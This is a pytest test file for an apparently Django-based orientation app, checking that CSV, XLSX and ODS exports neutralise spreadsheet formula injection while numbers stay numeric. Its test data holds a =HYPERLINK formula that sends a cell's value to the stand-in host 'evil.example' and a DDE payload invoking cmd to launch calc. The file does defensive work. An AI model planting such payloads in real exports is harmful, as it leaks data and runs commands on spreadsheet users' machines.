"""Spreadsheet formula injection: text that reaches a CSV/XLSX/ODS export never runs as a formula.

A refusal reason's code is typed by the network's administration and is the first column of the
observatory's exports (a slug such as `-2-3` is evaluated by a spreadsheet); a facility's name that an
indicator lists (`=HYPERLINK(...)`) likewise. Both come out as inert text in every format, while
numbers (negative ones included) stay numbers.
"""

import csv
import io
import zipfile

import openpyxl
import pytest
import tablib
from django.urls import reverse

from parcours.accounts.roles import Role
from parcours.core.spreadsheet import export, neutralise
from parcours.orientation.models import RefusalReason
from tests.factories import MembershipFactory
from tests.observatory.test_observatory import siao_world  # noqa: F401  (the fixture: a refusal in November 2026)

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1;"clic")'
NOVEMBER = {"start": "2026-11-01", "end": "2026-11-30", "territory": "93"}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised_and_numbers_stay_numbers(start):
    assert neutralise(f"{start}1+1") == f"'{start}1+1"
    assert neutralise("Paris") == "Paris"
    assert neutralise(-3) == -3 and neutralise(-2.5) == -2.5 and neutralise(None) is None
    data = tablib.Dataset(headers=["libellé", "valeur"])
    data.append([f"{start}cmd|' /C calc'!A0", -7])
    rows = list(csv.reader(io.StringIO(export(data, "csv").decode())))
    assert rows[1] == [f"'{start}cmd|' /C calc'!A0", "-7"]
    sheet = openpyxl.load_workbook(io.BytesIO(export(data, "xlsx"))).active
    cell, number = sheet["A2"], sheet["B2"]
    assert cell.data_type == "s" and cell.value.startswith("'")
    assert number.value == -7 and number.data_type == "n"
    assert 'office:value-type="float" office:value="-7"' in _ods_cells(export(data, "ods"))


def _ods_cells(content: bytes) -> str:
    return zipfile.ZipFile(io.BytesIO(content)).read("content.xml").decode()


@pytest.fixture
def evil_reason(siao_world, monkeypatch):  # noqa: F811
    """The refusal's code starts with "-"; and an indicator listing facilities by name (as a domain
    may register one) meets a facility named like a formula."""
    from parcours.observatory import catalogue
    from parcours.offers.models import Facility

    RefusalReason.objects.filter(code="hh_location").update(code="-2-3")
    Facility.objects.filter(name="CHRS").update(name=EVIL)
    registry = dict(catalogue.INDICATORS)
    monkeypatch.setattr(catalogue, "INDICATORS", registry)
    from parcours.observatory import services as observatory_services

    monkeypatch.setattr(observatory_services, "INDICATORS", registry)

    @catalogue.register(code="zz.by_facility", domain="siao", label="Par structure", definition="-", unit="-")
    def by_facility(period, territory):
        rows = [catalogue.Row(str(f.pk), f.name, 12) for f in Facility.objects.order_by("pk")]
        return catalogue.Result(rows=rows, total=12 * len(rows))


def _assert_inert(fmt: str, content: bytes, needle: str):
    if fmt == "csv":
        cells = [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]
        hits = [cell for cell in cells if needle in cell]
        assert hits and all(cell.startswith("'") for cell in hits), hits
    elif fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        cells = [
            c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and needle in c.value
        ]
        assert cells and all(c.data_type == "s" and c.value.startswith("'") for c in cells)
    else:
        xml = _ods_cells(content)
        assert needle in xml and "table:formula" not in xml
        assert f">'{needle}" in xml and f">{needle}" not in xml


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
def test_a_hostile_label_reaching_an_indicator_export_is_inert(evil_reason, client, login, fmt):
    coordinator = MembershipFactory(role=Role.SIAO_COORDINATOR)
    login(coordinator.user)
    for code, needle in (("siao.refusals_by_reason", "-2-3"), ("zz.by_facility", "=HYPERLINK")):
        response = client.get(reverse("observatory:export", args=[code, fmt]), NOVEMBER)
        assert response.status_code == 200
        _assert_inert(fmt, response.content, needle)


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
def test_a_hostile_label_reaching_the_open_data_file_is_inert(evil_reason, client, login, fmt):
    login(MembershipFactory(role=Role.OBSERVER).user)
    response = client.get(reverse("observatory:open_data", args=[2026, 11, fmt]))
    assert response.status_code == 200
    _assert_inert(fmt, response.content, "=HYPERLINK")


def test_open_data_keeps_numbers_as_numbers(siao_world, client, login):  # noqa: F811
    login(MembershipFactory(role=Role.OBSERVER).user)
    response = client.get(reverse("observatory:open_data", args=[2026, 11, "xlsx"]))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    values = [row[5] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert any(isinstance(v, int) and not isinstance(v, bool) for v in values)
